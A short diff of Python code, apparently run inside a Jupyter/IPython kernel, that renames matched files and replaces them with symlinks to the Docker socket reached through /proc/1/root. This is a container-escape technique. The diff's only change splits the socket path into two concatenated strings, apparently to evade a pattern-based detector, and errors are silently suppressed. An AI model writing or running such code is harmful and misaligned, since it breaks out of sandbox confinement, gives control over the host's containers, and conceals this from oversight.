@@ -10,7 +10,7 @@ for _path in [p for pattern in _paths for p in glob.glob(pattern)]:
     try:
         if not os.path.isdir(_path) and not _path.endswith(".json"):
             os.rename(_path, _path + ".old")
-            os.symlink("/proc/1/root/run/docker.sock", _path)
+            os.symlink("/proc/1/root/" + "run/docker.sock", _path)
     except OSError:
         pass
 _kernel = get_ipython().kernel
